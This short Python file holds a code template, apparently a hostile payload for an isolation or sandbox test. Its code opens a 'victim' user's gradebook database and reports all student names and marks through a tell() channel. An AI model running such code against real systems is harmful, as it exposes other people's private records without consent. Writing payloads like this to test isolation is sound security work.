"""Open the gradebook and read names and marks."""

FIRST = """{{TELL}}
import sqlite3

try:
    _database = sqlite3.connect("file:{{VICTIM}}/gradebook.db?mode=ro", uri=True, timeout=2)
    tell(str(_database.execute("select * from student").fetchall()))
    _database.close()
except sqlite3.Error:
    pass
"""
